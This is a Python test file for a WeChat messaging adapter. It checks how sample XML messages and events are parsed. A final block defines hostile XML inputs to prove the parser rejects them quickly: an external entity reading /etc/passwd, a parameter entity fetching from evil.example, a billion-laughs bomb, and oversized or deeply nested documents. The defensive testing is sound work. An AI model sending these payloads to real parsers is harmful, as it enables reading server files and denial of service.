"""Messages and events as WeChat writes them, and XML that nobody should read."""

import time
from datetime import UTC, datetime
from pathlib import Path

import pytest

from channels_app.adapters.base import (
    ChannelConfig,
    DeliveryUpdate,
    Ignored,
    InboundMessage,
    ParseError,
    RawEvent,
    ReachChanged,
)
from channels_app.adapters.wechat.adapter import WeChatAdapter

PAYLOADS = Path(__file__).parent / "payloads"
FOLLOWER = "oia2TjuEGTNoeX76QEjQNrcURxG8"


@pytest.fixture
def bare():
    return WeChatAdapter(ChannelConfig())


@pytest.fixture
def read(bare):
    def parse(name):
        return bare.parse(RawEvent(body=(PAYLOADS / f"{name}.xml").read_bytes(), content_type="text/xml"))[0]

    return parse


def test_text_is_read_with_sender_and_time(read):
    item = read("example")
    assert isinstance(item, InboundMessage)
    assert (item.sender.address, item.text, item.external_id) == (FOLLOWER, "我的包裹在哪里？ <3", "23456789012345678")
    assert item.sent_at == datetime.fromtimestamp(1763290821, tz=UTC)


@pytest.mark.parametrize(
    ("name", "content_type", "url"),
    [
        ("image", "image/jpeg", "media:media-1"),
        ("voice", "audio/amr", "media:media-2"),
        ("video", "video/mp4", "media:media-3"),
        ("shortvideo", "video/mp4", "media:media-4"),
    ],
)
def test_file_is_named_for_fetching(read, name, content_type, url):
    (file,) = read(name).attachments
    assert (file.content_type, file.url, file.content) == (content_type, url, None)


def test_what_was_said_is_the_text_of_a_voice_message(read):
    assert read("voice").text == "你好"


def test_location_has_its_place(read):
    item = read("location")
    assert item.details["location"] == {"latitude": 23.134521, "longitude": 113.358803, "name": "广州市", "address": ""}


def test_link_is_a_text_with_its_address(read):
    assert read("link").text == "Parcel\nWhere it is\nhttps://track.example/1"


def test_message_of_an_unknown_type_is_kept(read):
    item = read("file_unsupported")
    assert isinstance(item, InboundMessage)
    assert item.flags == ("unsupported",)


def test_following_and_leaving_change_the_reach(read):
    for name, is_reachable in (("event_subscribe", True), ("event_unsubscribe", False)):
        item = read(name)
        assert isinstance(item, ReachChanged)
        assert (item.sender.address, item.is_reachable) == (FOLLOWER, is_reachable)


def test_pressed_menu_entry_is_a_message_with_its_key(read):
    item = read("event_click")
    assert isinstance(item, InboundMessage)
    assert item.payload == "CONTACT_SUPPORT"


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("event_scan", "scan"),
        ("event_view", "view"),
        ("event_location", "location_report"),
        ("event_unknown", "unknown:kf_create_session"),
    ],
)
def test_event_of_no_interest_stays_visible(read, name, reason):
    item = read(name)
    assert isinstance(item, Ignored)
    assert item.reason == reason


def test_failed_template_is_a_failed_delivery(read):
    item = read("event_template_failed")
    assert isinstance(item, DeliveryUpdate)
    assert (item.status, item.status_of, item.error_code) == ("failed", "200163840", "user_block")


def test_no_two_payloads_share_a_key(bare):
    keys = [bare.event_key(RawEvent(body=file.read_bytes())) for file in sorted(PAYLOADS.glob("*.xml"))]
    assert len(set(keys)) == len(keys)


BOMB = (
    '<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY a "lol">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]><xml><Content>&j;</Content></xml>"
)
HOSTILE = {
    "document type": b'<?xml version="1.0"?><!DOCTYPE xml><xml><MsgType>text</MsgType></xml>',
    "external entity": b'<!DOCTYPE xml [<!ENTITY x SYSTEM "file:///etc/passwd">]><xml><Content>&x;</Content></xml>',
    "parameter entity": b'<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://evil.example/x"> %p;]><xml/>',
    "billion laughs": BOMB.encode(),
    "quadratic blowup": b'<!DOCTYPE x [<!ENTITY a "' + b"a" * 50_000 + b'">]><xml>' + b"&a;" * 5000 + b"</xml>",
    "huge text": b"<xml><Content>" + b"a" * 2_000_000 + b"</Content></xml>",
    "long field": b"<xml><Content>" + b"a" * 100_000 + b"</Content></xml>",
    "many fields": b"<xml>" + b"<a>1</a>" * 5000 + b"</xml>",
    "deep": b"<xml>" * 5_000 + b"</xml>" * 5_000,
    "no xml": b"MsgType=text",
    "cut": b"<xml><MsgType>text",
    "another root": b"<html><MsgType>text</MsgType></html>",
    "unknown encoding": b'<?xml version="1.0" encoding="made-up"?><xml/>',
    "no sender": b"<xml><MsgType>text</MsgType><CreateTime>1</CreateTime></xml>",
    "no number": b"<xml><MsgType>text</MsgType><CreateTime>x</CreateTime><FromUserName>o</FromUserName></xml>",
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_xml_is_a_parse_error_at_once(bare, name):
    event = RawEvent(body=HOSTILE[name], content_type="text/xml")
    started = time.perf_counter()
    with pytest.raises(ParseError):
        bare.parse(event)
    assert len(bare.event_key(event)) == 32
    assert time.perf_counter() - started < 0.1
